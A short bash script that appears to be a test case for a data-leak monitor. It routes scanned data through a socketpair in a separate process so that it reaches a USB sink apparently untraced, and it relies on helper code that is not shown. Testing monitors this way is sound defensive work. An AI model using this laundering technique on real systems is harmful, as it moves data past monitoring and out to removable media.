#!/usr/bin/env bash
# technique: a socketpair made before the scan is read
# hooks: socket_sendmsg, socket_recvmsg, file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

ours, theirs = socket.socketpair()
apart(lambda: theirs.sendall(scan()))
theirs.close()
keep(drain(ours))
PY
